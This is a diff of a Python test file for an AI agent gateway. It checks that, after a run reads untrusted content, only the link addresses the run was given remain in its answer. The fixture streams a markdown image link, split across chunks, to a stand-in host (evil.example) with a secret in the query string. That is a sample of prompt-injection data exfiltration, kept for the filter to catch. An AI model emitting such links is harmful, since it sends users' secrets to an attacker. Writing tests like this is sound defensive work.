@@ -1,10 +1,9 @@
 """Links in what runs say: after content of others only addresses stay that the run was given."""
 
-from collections.abc import AsyncIterator
 from typing import Any
 
 import pytest
-from gateway_harness.harness import Harness, open_harness
+from gateway_harness.harness import Harness
 from gateway_harness.raw_agents import RawAgent, add_raw_agent, success
 
 from bos.agent.v1 import AgentResult
@@ -24,10 +23,9 @@ GIVEN = "https://wiki.example/terms"
 
 
 @pytest.fixture
-async def harness(postgres_dsn: str) -> AsyncIterator[Harness]:
-    async with open_harness(postgres_dsn) as harness:
-        harness.composer.deltas = ["Done. ![se", "al](https://evil.exam", "ple/c?d=secret)", " Ok."]
-        yield harness
+async def harness(harness: Harness) -> Harness:
+    harness.composer.deltas = ["Done. ![se", "al](https://evil.exam", "ple/c?d=secret)", " Ok."]
+    return harness
 
 
 async def ask(
@@ -79,25 +77,23 @@ async def test_sections_of_a_report_have_no_made_up_link(harness: Harness) -> No
     assert list(asked.step_ids) == ["read"]
 
 
-@pytest.mark.parametrize(
-    "given",
-    [
-        {"sources": [Source(title="Terms", uri=GIVEN)]},
-        {"sources": [Source(title="Terms", excerpt=f"(see [the terms]({GIVEN}))")]},
-        {"table": make_table(["name", "site"], [["Kestrel", GIVEN]])},
-        {"data": to_value_map({"chunks": [{"text": f"Read {GIVEN}."}]})},
-        {},
-    ],
-    ids=["address of a source", "quotation", "cell", "data", "question"],
-)
-async def test_address_that_was_given_stays(harness: Harness, given: Any) -> None:
+async def test_address_that_was_given_stays(harness: Harness) -> None:
     answer = f"See {GIVEN}."
     harness.composer.deltas = [answer]
-    question = "What do the terms say?" if given else f"What does {GIVEN} say?"
-    result = success(answer=answer, tainted=True, **given)
-    events = await ask(harness, result, question=question)
-    assert response(events).answer == answer
-    assert response(events).agent_results[0].answer == answer
+    reader = await harness.plan(RawAgent("reader", lambda _: success()))
+    async with harness.gateway() as client:
+        for where, given in {
+            "address of a source": {"sources": [Source(title="Terms", uri=GIVEN)]},
+            "quotation": {"sources": [Source(title="T", excerpt=f"(see [the terms]({GIVEN}))")]},
+            "cell": {"table": make_table(["name", "site"], [["Kestrel", GIVEN]])},
+            "data": {"data": to_value_map({"chunks": [{"text": f"Read {GIVEN}."}]})},
+            "question": {},
+        }.items():
+            result = success(answer=answer, tainted=True, **given)
+            reader.make = lambda _, result=result: result
+            question = "What do the terms say?" if given else f"What does {GIVEN} say?"
+            found = await client.ask(question)
+            assert (found.answer, found.agent_results[0].answer) == (answer, answer), where
 
 
 async def test_answer_of_an_untainted_run_stays_as_it_is(harness: Harness) -> None:
